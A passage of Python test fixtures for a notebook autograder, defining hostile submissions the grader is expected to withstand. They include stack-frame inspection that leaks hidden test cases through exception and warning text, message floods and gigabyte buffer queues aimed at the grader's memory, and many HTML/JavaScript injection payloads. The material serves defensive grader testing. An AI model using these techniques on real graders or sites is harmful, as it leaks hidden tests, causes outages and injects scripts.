            raise ValueError("stashed " + repr(_stash))
    mode = bn_param.get("mode", "train")
''')]}),
    V("hostile_hidden_cases_in_errors", "raises, on hidden cases only, an exception of its own class named after "
      "the seed whose message holds the whole case list read from the caller (and warns it, and returns an "
      "object whose class name holds it): the hidden lines say only 'failed' and a category, the visible cases "
      "pass", ALL_FORWARD, expect={"test_train_output": 0.75, "test_running_stats": 0.5, "test_eval": 0.5},
      feedback={"test_train_output": ["(hidden)", "failed: your code raised"],
                "test_running_stats": ["not an array of floats"]},
      edits={FWD: [('    mode = bn_param.get("mode", "train")\n', '''    import sys as _s, warnings as _w
    _f = _s._getframe(1)
    while _f is not None and "seed" not in _f.f_locals:
        _f = _f.f_back
    if _f is not None and _f.f_locals["seed"] not in (0, 1, 2):
        _g = _f
        while _g is not None and "cases" not in _g.f_locals:
            _g = _g.f_back
        _leak = "hidden cases " + repr(_g.f_locals["cases"] if _g else None)
        _w.warn(_leak)
        if _f.f_locals["check"].startswith("running"):
            return type("Leak_" + _leak.replace(" ", "_")[:80], (), {})(), None
        raise type("Seed_%s" % _f.f_locals["seed"], (ValueError,), {})(_leak)
    mode = bn_param.get("mode", "train")
''')]}),
    V("hostile_message_floods", "after the tests, with the interrupt caught: a display update copied into 150 "
      "outputs, display metadata, raw error messages, comm/widget state with buffers and string execution "
      "counts, each MiBs: all counted and dropped, the notebook stays small, full marks",
      append=_SEND + '''
from IPython.display import display, update_display
try:
    for i in range(150):
        display({"text/plain": "x"}, raw=True, display_id="d")
    for i in range(5):
        update_display({"text/plain": "y" * 200_000}, raw=True, display_id="d")
    for i in range(5):
        display({"text/plain": "m"}, raw=True, metadata={"a": "z" * 2_000_000})
    for i in range(3):
        send("error", {"ename": "E" * 100_000, "evalue": "v" * 2_000_000, "traceback": ["t" * 1000] * 100})
    for i in range(5):
        send("comm_open", {"comm_id": str(i), "target_name": "jupyter.widget", "data": {"state": {
            "_model_name": "OutputModel", "_model_module": "@jupyter-widgets/output", "v": "w" * 2_000_000},
            "buffer_paths": [["b"]]}}, buffers=[b"b" * 2_000_000])
    for i in range(3):
        send("execute_result", {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": "c" * 2_000_000})
except KeyboardInterrupt:
    print("hostile: interrupted, going on")
'''),
    V("hostile_grader_memory", "after the tests: three display messages of forty 30 MiB buffers each (1.2 GB "
      "queued in the grader's zmq): the grader's memory watchdog stops the kernel, full marks",
      append=_SEND + '''
_b = b"x" * (30 << 20)
for _i in range(3):
    send("display_data", {"data": {"text/plain": "b"}, "metadata": {}}, buffers=[_b] * 40)
'''),
    V("hostile_html_payloads", "a written answer and outputs holding script in every shape (img onerror, svg "
      "onload, javascript: links, iframe srcdoc, <script>, a form, an external image, raw text/html, SVG and "
      "JavaScript outputs): sanitised away in the feedback and the formgrader (tests/test_inert_html.py loads "
      "them in Chromium), full marks",
      cells={"train_eval_answer": '''Batch statistics at test time would make $\\hat{x}$ depend on the batch.
<img src="x" onerror="document.title='PWNED'"> <svg onload="document.title='PWNED'"></svg>
<a href="javascript:document.title='PWNED'">link</a> [md](javascript:document.title='PWNED')
<iframe srcdoc="<script>parent.document.title='PWNED'</script>"></iframe>
<script>document.title='PWNED'</script><form action="http://127.0.0.1:9/"><button>go</button></form>
<img src="http://127.0.0.1:9/pixel.png">
'''},
      append='''
from IPython.display import display, HTML
display(HTML('<img src="x" onerror="document.title=\\'PWNED\\'">'))
display({"text/html": "<script>document.title='PWNED'</script>"}, raw=True)
display({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"><script>1</script></svg>'}, raw=True)
display({"application/javascript": "document.title='PWNED'"}, raw=True)
'''),
]
